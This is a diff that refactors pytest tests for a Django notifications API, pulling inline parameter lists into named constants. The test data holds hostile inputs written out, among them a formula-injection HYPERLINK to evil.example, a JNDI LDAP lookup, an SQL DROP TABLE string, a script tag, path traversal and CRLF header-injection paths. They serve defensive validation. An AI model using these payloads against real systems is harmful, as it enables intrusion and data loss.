@@ -19,7 +19,11 @@ from tests.hub.api.world import NOTICE, send
 pytestmark = pytest.mark.django_db
 
 LIMIT = 256 * 1024
-MODELS = [model for label in ("accounts", "notifications") for model in apps.get_app_config(label).get_models()]  # fmt: skip
+MODELS = [
+    model
+    for label in ("accounts", "notifications")
+    for model in apps.get_app_config(label).get_models()
+]
 GUARDED = [route for route in routes() if route.key not in OPEN]
 
 
@@ -110,7 +114,8 @@ def test_a_body_that_can_be_read_in_two_ways_or_in_none_is_refused(refused, body
 
 
 def test_the_depth_of_the_contract_is_allowed(world):
-    answer = world.call("sender", "POST", "/api/v1/notifications", {**NOTICE, "metadata": {"a": json.loads(nested(18))}})  # fmt: skip
+    body = {**NOTICE, "metadata": {"a": json.loads(nested(18))}}
+    answer = world.call("sender", "POST", "/api/v1/notifications", body)
 
     assert answer.status_code == 202
 
@@ -196,7 +201,10 @@ def test_a_body_that_is_declared_as_something_else_is_refused(refused, content_t
 
 @pytest.mark.parametrize(
     "content_type",
-    ["application/json", "application/json; charset=utf-8", 'application/json; charset="UTF-8"', "APPLICATION/JSON;charset=Utf-8"],
+    [
+        "application/json", "application/json; charset=utf-8",
+        'application/json; charset="UTF-8"', "APPLICATION/JSON;charset=Utf-8",
+    ],
 )  # fmt: skip
 def test_json_in_utf_8_is_read_however_it_is_spelt(world, content_type):
     path = "/api/v1/notifications"
@@ -218,6 +226,14 @@ ODD_TEXT = {
     "a line separator": "a\u2028b",
     "a paragraph separator": "a\u2029b",
 }
+PLACES = (
+    ("facts", 0, "label"),
+    ("facts", 0, "value"),
+    ("links", 0, "label"),
+    ("actions", 0, "label"),
+    ("audience", "any", 1, "department"),
+    ("audience", "any", 0, "employees", 0),
+)
 LINES = ("category", "reference", "title", "summary", "requester")
 
 
@@ -225,10 +241,7 @@ LINES = ("category", "reference", "title", "summary", "requester")
 def test_text_that_shows_as_something_else_is_refused_in_every_line(world, text):
     good, before = bodies.full(world)["POST /api/v1/notifications"], stored()
     spoilt = [{**good, name: text} for name in LINES]
-    spoilt += [
-        bodies.spoilt(good, at, text)
-        for at in (("facts", 0, "label"), ("facts", 0, "value"), ("links", 0, "label"), ("actions", 0, "label"), ("audience", "any", 1, "department"), ("audience", "any", 0, "employees", 0))
-    ]  # fmt: skip
+    spoilt += [bodies.spoilt(good, at, text) for at in PLACES]
     spoilt += [{**good, "metadata": {text: 1}}]
     for body in spoilt:
         answer = world.call("sender", "POST", "/api/v1/notifications", body)
@@ -240,9 +253,11 @@ def test_text_that_shows_as_something_else_is_refused_in_every_line(world, text)
 @pytest.mark.parametrize(
     "text",
     [
-        '=HYPERLINK("http://evil.example","x")', "@SUM(A1)", "+1", "-1", "<script>alert(1)</script>",
+        '=HYPERLINK("http://evil.example","x")', "@SUM(A1)", "+1", "-1",
+        "<script>alert(1)</script>",
         "'; DROP TABLE notifications_notification; --", "{{7*7}}", "${jndi:ldap://evil}", "%s%n%x",
-        "\u0928\u092e\u0938\u094d\u0924\u0947", "שלום \u200fעולם", "👩\u200d👩\u200d👧", "e\u0301", "\U0010ffff", "𐀀",
+        "\u0928\u092e\u0938\u094d\u0924\u0947", "\u05e9\u05dc\u05d5\u05dd \u200f\u05e2",
+        "👩\u200d👩\u200d👧", "e\u0301", "\U0010ffff", "𐀀",
     ],
 )  # fmt: skip
 def test_text_that_only_looks_dangerous_is_kept_and_given_back_as_it_is(world, text):
@@ -287,7 +302,8 @@ def test_thousands_of_flaws_are_answered_in_bounded_size(world):
     assert answer.status_code == 422
     assert len(codes.problem(answer)["errors"]) <= 100
     ids = {"ids": ["x"] * 40_000, "mark": "read"}
-    assert len(codes.problem(world.call("owner", "POST", "/api/v1/me/inbox/mark", ids))["errors"]) <= 100  # fmt: skip
+    answer = world.call("owner", "POST", "/api/v1/me/inbox/mark", ids)
+    assert len(codes.problem(answer)["errors"]) <= 100
 
 
 @pytest.mark.parametrize("version", [0, -1, 2**31, 2**63 - 1, -(2**63), 1.5, "1", True, None, []])
@@ -300,6 +316,7 @@ def test_a_version_is_a_positive_number(world, version):
 
 
 KEY = "Idempotency-Key"
+ANSWER = {"verb": "approve", "version": 1}
 
 
 @pytest.mark.parametrize("key", ["", " ", "a b", "é", "x" * 256, "a\tb", "\x7f", "x" * 100_000])
@@ -307,7 +324,7 @@ def test_an_idempotency_key_that_is_none_is_refused(world, key):
     before = stored()
     for caller, path, body in (
         ("sender", "/api/v1/notifications", NOTICE),
-        ("owner", f"/api/v1/me/inbox/{world.request.pk}/response", {"verb": "approve", "version": 1}),
+        ("owner", f"/api/v1/me/inbox/{world.request.pk}/response", ANSWER),
     ):  # fmt: skip
         answer = world.call(caller, "POST", path, body, **{KEY: key})
         assert (answer.status_code, codes.problem(answer)["code"]) == (
@@ -317,19 +334,33 @@ def test_an_idempotency_key_that_is_none_is_refused(world, key):
     assert stored() == before
 
 
-@pytest.mark.parametrize(
-    "accept", ["text/html", "application/xml", "image/*", "x", "application/json2", "a/b;q=1", ";", ",,,"]
-)  # fmt: skip
+NOT_JSON = [
+    "text/html",
+    "application/xml",
+    "image/*",
+    "x",
+    "application/json2",
+    "a/b;q=1",
+    ";",
+    ",,,",
+]
+
+
 @pytest.mark.parametrize("route", GUARDED, ids=lambda route: route.key)
-def test_who_does_not_accept_json_is_told_so(world, route, accept):
+def test_who_does_not_accept_json_is_told_so(world, route):
     caller = "sender" if "/notifications" in route.path else "owner"
-    answer = world.call(caller, route.method, address(route.path, world), {}, Accept=accept)
-
-    assert (answer.status_code, codes.problem(answer)["code"]) == (406, "not_acceptable")
+    for accept in NOT_JSON:
+        answer = world.call(caller, route.method, address(route.path, world), {}, Accept=accept)
+        said = (answer.status_code, codes.problem(answer)["code"])
+        assert said == (406, "not_acceptable"), accept
 
 
 @pytest.mark.parametrize(
-    "accept", ["*/*", "application/*", "text/html, application/json;q=0.1", "application/json; v=2", "x" * 5_000 + ", */*"]
+    "accept",
+    [
+        "*/*", "application/*", "text/html, application/json;q=0.1", "application/json; v=2",
+        "x" * 5_000 + ", */*",
+    ],
 )  # fmt: skip
 def test_who_accepts_json_among_others_gets_it(world, accept):
     assert world.call("owner", "GET", "/api/v1/me", Accept=accept).status_code == 200
@@ -345,25 +376,25 @@ def test_another_method_is_answered_with_those_that_there_are(world, path):
         assert there <= set(answer["Allow"].split(", "))
 
 
-@pytest.mark.parametrize(
-    "path",
-    [
-        "/api", "/api/", "/api/v1", "/api/v1/", "/api/v2/me", "/api/v1/me/", "/api/v1/nothing",
-        "/api/v1//me", "/api/v1/me/inbox/", "/api/v1/me/inbox/1", "/api/v1/me/inbox/null",
-        "/api/v1/me/inbox/%00", "/api/v1/me/inbox/%ff", "/api/v1/me/inbox/../../me",
-        "/api/v1/me/inbox/%2e%2e%2fme", "/api/v1/me/inbox/00000000-0000-0000-0000-00000000000g",
-        "/api/v1/me/inbox/00000000-0000-0000-0000-000000000000 ",
-        "/api/v1/me/inbox/00000000-0000-0000-0000-000000000000%0a",
-        "/api/v1/me/inbox/00000000-0000-0000-0000-000000000000%0aSet-Cookie:x",
-        "/api/v1/notifications/;DROP", "/api/v1/" + "x" * 10_000, "/api/v1/é", "/api/v1/openapi.json/",
-        "/api/v1/me/devices/1/../2", "/API/V1/ME",
-    ],
-)  # fmt: skip
-def test_an_address_that_is_none_is_not_found(world, path):
-    for caller in ("nobody", "owner", "sender"):
-        answer = world.call(caller, "GET", path)
-        assert (answer.status_code, codes.problem(answer)["code"]) == (404, "not_found")
-        assert b"/api/" not in answer.content, "what was typed does not come back"
+NOWHERE = [
+    "/api", "/api/", "/api/v1", "/api/v1/", "/api/v2/me", "/api/v1/me/", "/api/v1/nothing",
+    "/api/v1//me", "/api/v1/me/inbox/", "/api/v1/me/inbox/1", "/api/v1/me/inbox/null",
+    "/api/v1/me/inbox/%00", "/api/v1/me/inbox/%ff", "/api/v1/me/inbox/../../me",
+    "/api/v1/me/inbox/%2e%2e%2fme", "/api/v1/me/inbox/00000000-0000-0000-0000-00000000000g",
+    "/api/v1/me/inbox/00000000-0000-0000-0000-000000000000 ",
+    "/api/v1/me/inbox/00000000-0000-0000-0000-000000000000%0a",
+    "/api/v1/me/inbox/00000000-0000-0000-0000-000000000000%0aSet-Cookie:x",
+    "/api/v1/notifications/;DROP", "/api/v1/" + "x" * 10_000, "/api/v1/é", "/api/v1/openapi.json/",
+    "/api/v1/me/devices/1/../2", "/API/V1/ME",
+]  # fmt: skip
+
+
+def test_an_address_that_is_none_is_not_found(world):
+    for path in NOWHERE:
+        for caller in ("nobody", "owner", "sender"):
+            answer = world.call(caller, "GET", path)
+            assert (answer.status_code, codes.problem(answer)["code"]) == (404, "not_found"), path
+            assert b"/api/" not in answer.content, "what was typed does not come back"
 
 
 LISTS = [
@@ -373,26 +404,27 @@ LISTS = [
 ]
 
 
-@pytest.mark.parametrize(
-    "query",
-    [
-        "after=garbage", "after=%00", "after=a%00b", "after=%F0%9F%92%A9", "after=" + "A" * 301,
-        "after=fHw", "after=MjAyNnx4", "after==", "after=", "before=garbage", "since=garbage", "since=%00",
-        "since=MXwyfDM", "page_size=0", "page_size=-1", "page_size=101", "page_size=1e3",
-        "page_size=99999999999999999999", "page_size=x", "page_size=", "page_size=%00",
-        "page_size=1&page_size=2", "after=a&after=b", "page_size[]=1", "state=nonsense",
-        "state=%00", "state=", "reference=%00", "reference=" + "x" * 129, "category=" + "x" * 65,
-        "nonsense=1", "offset=5", "%00=1", "%ff=1", "&".join(f"a{n}=1" for n in range(1001)),
-    ],
-)  # fmt: skip
-def test_a_query_that_makes_no_sense_is_refused(world, query):
-    for caller, path in LISTS:
+QUERIES = [
+    "after=garbage", "after=%00", "after=a%00b", "after=%F0%9F%92%A9", "after=" + "A" * 301,
+    "after=fHw", "after=MjAyNnx4", "after==", "after=", "before=garbage", "since=garbage",
+    "since=%00",
+    "since=MXwyfDM", "page_size=0", "page_size=-1", "page_size=101", "page_size=1e3",
+    "page_size=99999999999999999999", "page_size=x", "page_size=", "page_size=%00",
+    "page_size=1&page_size=2", "after=a&after=b", "page_size[]=1", "state=nonsense",
+    "state=%00", "state=", "reference=%00", "reference=" + "x" * 129, "category=" + "x" * 65,
+    "nonsense=1", "offset=5", "%00=1", "%ff=1", "&".join(f"a{n}=1" for n in range(1001)),
+]  # fmt: skip
+
+
+@pytest.mark.parametrize(("caller", "path"), LISTS)
+def test_a_query_that_makes_no_sense_is_refused(world, caller, path):
+    for query in QUERIES:
         answer = world.call(caller, "GET", f"{path}?{query}")
-        assert answer.status_code in {400, 422}, (path, answer.content)
+        assert answer.status_code in {400, 422}, (query[:50], answer.content)
         assert codes.problem(answer)["code"] in {"invalid", "malformed_request"}
 
 
-@pytest.mark.parametrize("host", ["evil.example", "testserver@evil", "", "a" * 300, "[::1", "é"])  # fmt: skip
+@pytest.mark.parametrize("host", ["evil.example", "testserver@evil", "", "a" * 300, "[::1", "é"])
 def test_an_unknown_host_is_refused(world, host):
     for caller, path in (("owner", "/api/v1/me"), ("nobody", "/api/v1/openapi.json")):
         answer = world.call(caller, "GET", path, Host=host)
